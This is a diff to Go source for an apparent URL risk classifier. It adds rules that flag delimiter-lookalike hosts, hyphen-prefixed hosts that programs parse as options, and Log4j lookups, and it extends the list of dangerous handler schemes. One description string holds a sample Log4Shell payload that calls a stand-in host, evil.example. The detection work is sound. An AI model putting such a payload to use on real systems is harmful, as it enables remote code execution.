@@ -32,6 +32,7 @@ const (
 	LocalName       Rule = "local-name"       // a name with a different meaning in each network
 	AddressInName   Rule = "address-in-name"  // a name that contains an IP address
 
+	Delimiter      Rule = "delimiter"          // a character of the host that looks like a slash or another delimiter
 	MixedScripts   Rule = "mixed-scripts"      // a label in scripts that are not written together
 	Confusable     Rule = "confusable"         // a label that looks like one in ASCII
 	HiddenInHost   Rule = "hidden-in-host"     // invisible characters in a label
@@ -45,6 +46,8 @@ const (
 	Data          Rule = "data"           // a URL that contains the document itself
 	LocalFile     Rule = "local-file"     // a file URL, or a Windows path
 	Handler       Rule = "handler"        // a scheme that starts a program with arguments from the URL
+	Option        Rule = "option"         // a host or a username that programs parse as an option
+	Lookup        Rule = "lookup"         // a lookup that logging libraries run
 	OtherProtocol Rule = "protocol"       // a scheme for other services or files, or for pages of the browser itself
 
 	InsideURL      Rule = "url-inside"      // a URL of another site in the URL
@@ -117,6 +120,7 @@ var docs = []Doc{
 	{LocalName, Suspicious, "The host is a name that has a different meaning in each network, such as localhost or the name of a service in a cluster.", "https://www.rfc-editor.org/rfc/rfc6761"},
 	{AddressInName, Dangerous, "The host is a name that contains an IP address, and a wildcard DNS service may resolve it to that address. It is dangerous for the address of a metadata service, and suspicious for others.", payloads},
 
+	{Delimiter, Dangerous, "The host has a character that looks like a slash, a dot or another delimiter, so that the host seems to end before it. It is suspicious for a slash if the text before it does not look like a host.", "https://chromium.googlesource.com/chromium/src/+/main/docs/idn.md"},
 	{MixedScripts, Suspicious, "A label of the host mixes scripts that are not written together.", uts39 + "#Mixed_Script_Detection"},
 	{Confusable, Suspicious, "A label with other letters looks like one in ASCII. It is a note if the ASCII label contains digits, or if the suffix of the domain is not ASCII.", "https://doi.org/10.1145/503124.503156"},
 	{HiddenInHost, Note, "A label has invisible characters, which some languages are written with.", uts39},
@@ -129,7 +133,9 @@ var docs = []Doc{
 	{EncodedScript, Dangerous, "After decoding, the input is a URL whose scheme runs code.", "https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html"},
 	{Data, Dangerous, "The URL contains the document itself, which comes from no host. It is dangerous for HTML, XML, SVG and scripts, a note for images, fonts, audio and video, and suspicious for all others, blob: and filesystem: URLs included.", "https://blog.mozilla.org/security/2017/11/27/blocking-top-level-navigations-data-urls-firefox-58/"},
 	{LocalFile, Dangerous, "The URL, or a Windows path, points to a file. It is dangerous if the file is on another machine, because Windows sends it the user's credentials, and suspicious otherwise.", "https://attack.mitre.org/techniques/T1187/"},
-	{Handler, Dangerous, "The scheme starts a program with arguments from the URL. It is dangerous for hcp, mhtml, ms-appinstaller, ms-msdt, ms-officecmd and search-ms, and suspicious for others.", "https://nvd.nist.gov/vuln/detail/CVE-2022-30190"},
+	{Handler, Dangerous, "The scheme starts a program with arguments from the URL. It is dangerous for schemes that install programs or run commands: cursor, ext, hcp, itms-services, jnlp, jnlps, mhtml, ms-appinstaller, ms-msdt, ms-officecmd and search-ms; and suspicious for others.", "https://nvd.nist.gov/vuln/detail/CVE-2022-30190"},
+	{Option, Dangerous, "The host or the username begins with a hyphen, so that a program that is started with it, such as ssh, parses it as an option. It is a note for http and https.", "https://nvd.nist.gov/vuln/detail/CVE-2017-1000117"},
+	{Lookup, Dangerous, "The URL contains a lookup, such as ${jndi:ldap://evil.example/a}, which old versions of Log4j and Commons Text run when they write it to a log.", "https://nvd.nist.gov/vuln/detail/CVE-2021-44228"},
 	{OtherProtocol, Suspicious, "The scheme lets a server that fetches the URL connect to other services, or read files; or it is for pages of the browser itself.", orange},
 
 	{InsideURL, Dangerous, "The URL contains a URL of another site. It has the grade of that URL, and is at least a note.", cwe601},
@@ -141,8 +147,8 @@ var docs = []Doc{
 	{NameDivided, Suspicious, "The host is a well-known name with dots or hyphens in it.", squatting},
 	{NameNear, Suspicious, "The domain is one letter away from a well-known name. It is a note if chance explains it: an ordinary word, or a short name with another suffix.", squatting},
 	{NameWord, Suspicious, "The domain is a well-known name with added words.", combosquat},
-	{NameLabel, Suspicious, "A label before the domain is a well-known name.", combosquat},
-	{NameSuffix, Suspicious, "The domain is a well-known name under another suffix. It is a note under the suffix of a country, except for suffixes that are sold worldwide, such as io and tk.", combosquat},
+	{NameLabel, Suspicious, "A label before the domain is a well-known name. It is a note for programs that companies run on their own hosts, as in gitlab.company.example.", combosquat},
+	{NameSuffix, Suspicious, "The domain is a well-known name under another suffix. It is a note under github.io and gitlab.io, and under the suffix of a country, except for suffixes that are sold worldwide, such as io and tk.", combosquat},
 	{NamePath, Suspicious, "The path contains the domain of a well-known name. It is a note unless the path also has a word such as login.", rfcSemantic},
 
 	{NotURL, Note, "The input does not parse as a URL.", standard + "#url-parsing"},
